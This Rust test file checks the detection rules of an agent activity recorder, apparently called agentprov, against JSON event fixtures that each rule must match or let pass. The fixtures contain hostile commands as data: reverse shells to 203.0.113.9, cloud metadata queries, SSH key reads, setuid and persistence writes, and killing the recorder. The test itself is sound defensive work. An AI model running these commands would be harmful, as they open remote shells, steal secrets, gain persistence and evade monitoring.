//! Every rule of the default pack: two events that it must catch, two that come near and must pass.

use agentprov_model::RuleMode;
use agentprov_policy::{pack, trial};
use std::collections::BTreeMap;

const HIT: bool = true;
const MISS: bool = false;

#[rustfmt::skip]
const EVENTS: &[(&str, bool, &str)] = &[
    ("metadata_ip_dst", HIT, r#"{"event_type":"network_connect","dst_ip":"169.254.169.254"}"#),
    ("metadata_ip_dst", HIT, r#"{"event_type":"network_connect","dst_ip":"[::ffff:169.254.169.254]:80"}"#),
    ("metadata_ip_dst", MISS, r#"{"event_type":"network_connect","dst_ip":"169.254.169.253"}"#),
    ("metadata_ip_dst", MISS, r#"{"event_type":"network_connect","host":"metadata.example.com"}"#),
    ("metadata_ip_args", HIT, r#"{"event_type":"execve","args":["curl","http://169.254.169.254/latest/meta-data"]}"#),
    ("metadata_ip_args", HIT, r#"{"event_type":"execve","args":["curl","-H","X: y","http://metadata.google.internal/x"]}"#),
    ("metadata_ip_args", MISS, r#"{"event_type":"execve","args":["curl","http://example.com/?a=1"]}"#),
    ("metadata_ip_args", MISS, r#"{"event_type":"execve","args":["seq","2852039166"]}"#),
    ("private_cidr_access", HIT, r#"{"event_type":"network_connect","dst_ip":"10.0.0.9","port":443}"#),
    ("private_cidr_access", HIT, r#"{"event_type":"private_cidr","dst_ip":"fd12::9"}"#),
    ("private_cidr_access", MISS, r#"{"event_type":"network_connect","dst_ip":"10.0.0.2","port":53}"#),
    ("private_cidr_access", MISS, r#"{"event_type":"network_connect","dst_ip":"127.0.0.1"}"#),
    ("secret_path_access", HIT, r#"{"event_type":"file_open","path":"/home/u/.ssh/id_ed25519"}"#),
    ("secret_path_access", HIT, r#"{"event_type":"secret_path","path":"/x"}"#),
    ("secret_path_access", MISS, r#"{"event_type":"file_open","path":"/w/secrets.py"}"#),
    ("secret_path_access", MISS, r#"{"event_type":"file_open","path":"/home/u/.npmrc","outcome":"failed"}"#),
    ("secret_path_suspected", HIT, r#"{"event_type":"file_open","path":"/w/tls/server.key"}"#),
    ("secret_path_suspected", HIT, r#"{"event_type":"file_open","path":"/w/api_token.json"}"#),
    ("secret_path_suspected", MISS, r#"{"event_type":"file_write","path":"/w/api_token.json"}"#),
    ("secret_path_suspected", MISS, r#"{"event_type":"file_open","path":"/w/tokenizer.json"}"#),
    ("privilege_escalation", HIT, r#"{"event_type":"setuid","args":["0"],"uid":1000}"#),
    ("privilege_escalation", HIT, r#"{"event_type":"setgid","args":["setgid_root"]}"#),
    ("privilege_escalation", MISS, r#"{"event_type":"setuid","args":["0"],"uid":0}"#),
    ("privilege_escalation", MISS, r#"{"event_type":"setuid","args":["1000"],"uid":1000}"#),
    ("privilege_command", HIT, r#"{"event_type":"execve","args":["/usr/bin/sudo","-n","id"]}"#),
    ("privilege_command", HIT, r#"{"event_type":"execve","args":["chmod","4755","/tmp/x"]}"#),
    ("privilege_command", MISS, r#"{"event_type":"execve","args":["chmod","0755","/tmp/x"]}"#),
    ("privilege_command", MISS, r#"{"event_type":"execve","args":["echo","sudo"]}"#),
    ("kernel_interface", HIT, r#"{"event_type":"privilege","args":["finit_module","fd=3"]}"#),
    ("kernel_interface", HIT, r#"{"event_type":"privilege","args":["mount","source=a"]}"#),
    ("kernel_interface", MISS, r#"{"event_type":"privilege","args":["unshare","flags=CLONE_NEWUSER"]}"#),
    ("kernel_interface", MISS, r#"{"event_type":"execve","args":["mount"]}"#),
    ("ptrace_access", HIT, r#"{"event_type":"ptrace"}"#),
    ("ptrace_access", HIT, r#"{"event_type":"ptrace","args":["ptrace","request=16"],"uid":0}"#),
    ("ptrace_access", MISS, r#"{"event_type":"privilege","args":["process_vm_readv"]}"#),
    ("ptrace_access", MISS, r#"{"event_type":"execve","args":["ptrace"]}"#),
    ("supply_chain_install", HIT, r#"{"event_type":"execve","args":["pip","-q","install","x"]}"#),
    ("supply_chain_install", HIT, r#"{"event_type":"execve","args":["bash","-lc","cd /w && npm ci"]}"#),
    ("supply_chain_install", MISS, r#"{"event_type":"execve","args":["echo","pip install x"]}"#),
    ("supply_chain_install", MISS, r#"{"event_type":"execve","args":["npm","run","install-hooks"]}"#),
    ("anomalous_process_tree", HIT, r#"{"event_type":"abnormal_process_tree"}"#),
    ("anomalous_process_tree", HIT, r#"{"source":"falco","event_type":"abnormal_process_tree","args":["x"]}"#),
    ("anomalous_process_tree", MISS, r#"{"event_type":"process_exit"}"#),
    ("anomalous_process_tree", MISS, r#"{"event_type":"process_observed"}"#),
    ("resource_pressure", HIT, r#"{"event_type":"resource_pressure"}"#),
    ("resource_pressure", HIT, r#"{"source":"sensor","event_type":"resource_pressure"}"#),
    ("resource_pressure", MISS, r#"{"event_type":"policy_verdict"}"#),
    ("resource_pressure", MISS, r#"{"event_type":"execve","args":["resource_pressure"]}"#),
    ("zero_sdk_orphan_observe_only", HIT, r#"{"source":"record_process_sample","event_type":"abnormal_process_tree"}"#),
    ("zero_sdk_orphan_observe_only", HIT, r#"{"source":"record_process_sample","event_type":"abnormal_process_tree","uid":0}"#),
    ("zero_sdk_orphan_observe_only", MISS, r#"{"source":"falco","event_type":"abnormal_process_tree"}"#),
    ("zero_sdk_orphan_observe_only", MISS, r#"{"source":"record_process_sample","event_type":"process_observed"}"#),
    ("persistence_git_hooks", HIT, r#"{"event_type":"file_write","path":"/w/.git/hooks/pre-commit"}"#),
    ("persistence_git_hooks", HIT, r#"{"event_type":"execve","args":["git","config","core.hooksPath",".h"]}"#),
    ("persistence_git_hooks", MISS, r#"{"event_type":"file_write","path":"/w/.git/hooks/pre-commit.sample"}"#),
    ("persistence_git_hooks", MISS, r#"{"event_type":"file_open","access":"read","path":"/w/.git/hooks/pre-commit"}"#),
    ("persistence_shell_rc", HIT, r#"{"event_type":"file_write","path":"/home/u/.bashrc"}"#),
    ("persistence_shell_rc", HIT, r#"{"event_type":"file_open","access":"write","path":"/etc/profile.d/x.sh"}"#),
    ("persistence_shell_rc", MISS, r#"{"event_type":"file_open","access":"read","path":"/home/u/.bashrc"}"#),
    ("persistence_shell_rc", MISS, r#"{"event_type":"file_write","path":"/w/my.bashrc"}"#),
    ("persistence_cron", HIT, r#"{"event_type":"file_write","path":"/etc/cron.d/job"}"#),
    ("persistence_cron", HIT, r#"{"event_type":"execve","args":["crontab","jobs.txt"]}"#),
    ("persistence_cron", MISS, r#"{"event_type":"execve","args":["crontab","-l"]}"#),
    ("persistence_cron", MISS, r#"{"event_type":"file_write","path":"/w/etc/cron.d/job"}"#),
    ("persistence_systemd", HIT, r#"{"event_type":"file_write","path":"/home/u/.config/systemd/user/x.service"}"#),
    ("persistence_systemd", HIT, r#"{"event_type":"execve","args":["systemctl","--user","enable","x"]}"#),
    ("persistence_systemd", MISS, r#"{"event_type":"execve","args":["systemctl","status","x"]}"#),
    ("persistence_systemd", MISS, r#"{"event_type":"file_open","access":"read","path":"/etc/systemd/system.conf"}"#),
    ("persistence_authorized_keys", HIT, r#"{"event_type":"file_write","path":"/root/.ssh/authorized_keys"}"#),
    ("persistence_authorized_keys", HIT, r#"{"event_type":"file_rename","path":"/home/u/.ssh/authorized_keys"}"#),
    ("persistence_authorized_keys", MISS, r#"{"event_type":"file_open","access":"read","path":"/root/.ssh/authorized_keys"}"#),
    ("persistence_authorized_keys", MISS, r#"{"event_type":"file_write","path":"/w/ssh/authorized_keys"}"#),
    ("reverse_shell", HIT, r#"{"event_type":"execve","args":["bash","-c","bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]}"#),
    ("reverse_shell", HIT, r#"{"event_type":"execve","args":["nc","203.0.113.9","4444","-e","/bin/sh"]}"#),
    ("reverse_shell", MISS, r#"{"event_type":"execve","args":["nc","-z","203.0.113.9","443"]}"#),
    ("reverse_shell", MISS, r#"{"event_type":"execve","args":["python3","-c","import socket; print(socket.gethostname())"]}"#),
    ("secret_then_network", HIT, r#"{"event_type":"network_connect","dst_ip":"203.0.113.9","tainted":true}"#),
    ("secret_then_network", HIT, r#"{"event_type":"private_cidr","dst_ip":"10.0.0.1","tainted":true}"#),
    ("secret_then_network", MISS, r#"{"event_type":"network_connect","dst_ip":"203.0.113.9"}"#),
    ("secret_then_network", MISS, r#"{"event_type":"network_connect","dst_ip":"127.0.0.1","tainted":true}"#),
    ("recorder_tampering", HIT, r#"{"event_type":"file_unlink","path":"/home/u/.local/share/agentprov/agentprov.db"}"#),
    ("recorder_tampering", HIT, r#"{"event_type":"execve","args":["pkill","-9","agentprov"]}"#),
    ("recorder_tampering", MISS, r#"{"event_type":"file_open","access":"read","path":"/home/u/.local/share/agentprov/agentprov.db"}"#),
    ("recorder_tampering", MISS, r#"{"event_type":"execve","args":["agentprov","record","--","make"]}"#),
];

#[test]
fn every_rule_catches_what_it_must_and_passes_what_comes_near() {
    let rules = pack::default_rules().expect("the pack has no mistakes");
    let mut seen: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    let mut wrong = Vec::new();
    for (id, hit, line) in EVENTS {
        let judged = trial::judge_line(line.as_bytes(), &rules, RuleMode::Enforce).expect(line);
        assert!(judged.ignored_keys.is_empty(), "{line}");
        if judged.matched.iter().any(|matched| matched.rule == *id) != *hit {
            wrong.push(format!("{id} on {line}: expected {}", if *hit { "a hit" } else { "a miss" }));
        }
        let counts = seen.entry(id).or_default();
        *(if *hit { &mut counts.0 } else { &mut counts.1 }) += 1;
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    for rule in rules.rules() {
        assert!(seen.get(rule.id.as_str()).is_some_and(|(hits, misses)| *hits >= 2 && *misses >= 2), "{}", rule.id);
    }
}

#[test]
fn the_pack_has_no_mistakes_and_every_rule_is_documented() {
    let (file, diagnostics) = pack::default_file();
    assert!(diagnostics.is_empty(), "{diagnostics:?}");
    let docs = include_str!("../../../../docs/rules.md");
    for (rule, (id, _)) in file.rules.iter().zip(pack::DEFAULT) {
        assert_eq!(rule.id, *id);
        assert_eq!(rule.docs.as_deref(), Some(format!("docs/rules.md#{id}").as_str()));
        assert!(docs.contains(&format!("\n### {id}\n")), "docs/rules.md has no section for {id}");
    }
}
